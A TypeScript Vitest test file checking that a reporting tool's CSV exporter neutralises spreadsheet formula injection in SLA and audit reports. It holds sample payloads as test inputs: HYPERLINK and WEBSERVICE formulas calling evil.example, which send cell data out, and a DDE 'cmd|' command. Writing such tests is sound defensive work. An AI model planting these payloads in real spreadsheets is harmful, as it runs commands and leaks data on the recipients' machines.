import { describe, expect, it } from "vitest";
import { renderAudit } from "../../src/audit/report.js";
import { csv, csvField, renderSlaReport, type SlaReportDocument } from "../../src/reports/format.js";
import type { SlaRow } from "../../src/reports/sla-report.js";

/** What a spreadsheet would read from one CSV record of plain fields (no line breaks inside). */
function cells(line: string): string[] {
  return [...line.matchAll(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g)]
    .map((m) => m[1]!)
    .slice(0, -1)
    .map((c) => (c.startsWith('"') ? c.slice(1, -1).replaceAll('""', '"') : c));
}

describe("a CSV field", () => {
  it("neutralises a text a spreadsheet would run: a leading ' and quoted", () => {
    expect(csvField('=HYPERLINK("http://evil.example?"&A1,"click")')).toBe(
      `"'=HYPERLINK(""http://evil.example?""&A1,""click"")"`,
    );
    expect(csvField("+1+cmd|' /C calc'!A0")).toBe(`"'+1+cmd|' /C calc'!A0"`);
    expect(csvField("-2+3")).toBe(`"'-2+3"`);
    expect(csvField("@SUM(A1:A9)")).toBe(`"'@SUM(A1:A9)"`);
    expect(csvField("\t=1+1")).toBe(`"'\t=1+1"`);
    expect(csvField("\r=1+1")).toBe(`"'\r=1+1"`);
    expect(csvField("+7 916 000-00-00")).toBe(`"'+7 916 000-00-00"`);
    expect(csvField("-1e3")).toBe(`"'-1e3"`);
  });

  it("leaves numbers as numbers: a negative overrun adds up in the spreadsheet", () => {
    expect(csvField(-5)).toBe("-5");
    expect(csvField(-0.5)).toBe("-0.5");
    expect(csvField(12n)).toBe("12");
    // A numeric column read back from PostgreSQL arrives as text.
    expect(csvField("-15")).toBe("-15");
    expect(csvField("-15.25")).toBe("-15.25");
  });

  it("quotes per RFC 4180, and on a semicolon, the separator a Russian-locale Excel splits on", () => {
    expect(csvField("a;=1+1")).toBe('"a;=1+1"');
    expect(csvField("a,b")).toBe('"a,b"');
    expect(csvField("plain")).toBe("plain");
    expect(csvField(null)).toBe("");
    expect(csvField(undefined)).toBe("");
  });
});

const row = (over: Partial<SlaRow>): SlaRow => ({
  pack: "p",
  clock: "resolve",
  clockKind: "resolution",
  title: "=1+1",
  type: "=cmd|' /C calc'!A0",
  priority: "high",
  line: "all",
  tickets: 1,
  met: 0,
  breached: 1,
  open: 0,
  noTarget: 0,
  percentMet: 0,
  medianMinutes: -5,
  p90Minutes: -5,
  worst: [{ instance: "gl", ticket: "@x", url: "=HYPERLINK(1)", overrunMinutes: 5, open: false }],
  ...over,
});

describe("every CSV the bridge writes goes through the one field", () => {
  it("the SLA report", () => {
    const doc: SlaReportDocument = {
      pack: "p",
      from: "2026-03-01",
      to: "2026-04-01",
      zone: "UTC",
      generatedAt: "2026-04-01",
      rows: [row({})],
      trend: [],
    };
    const [, record] = renderSlaReport(doc, "csv").split("\r\n");
    const read = cells(record!);
    expect(read[2]).toBe("'=1+1");
    expect(read[3]).toBe("'=cmd|' /C calc'!A0");
    expect(read[12]).toBe("-5");
    expect(read[14]).toMatch(/^'=HYPERLINK/);
  });

  it("the audit's findings", () => {
    const text = renderAudit(
      {
        instance: "gl",
        since: "2026-03-01",
        until: "2026-04-01",
        findings: [
          {
            ticket: "-1+1",
            url: "@evil",
            rule: "r",
            outcome: "violation",
            message: '=WEBSERVICE("http://evil.example")',
            actions: [],
          },
        ],
      } as unknown as Parameters<typeof renderAudit>[0],
      "csv",
    );
    const read = cells(text.split("\r\n")[1]!);
    expect(read.slice(0, 5)).toEqual([
      "'-1+1",
      "'@evil",
      "r",
      "violation",
      `'=WEBSERVICE("http://evil.example")`,
    ]);
  });

  it("a table of anything", () => {
    expect(csv(["a", "b"], [["=x", 3]])).toBe('\uFEFFa,b\r\n"\'=x",3\r\n');
  });
});
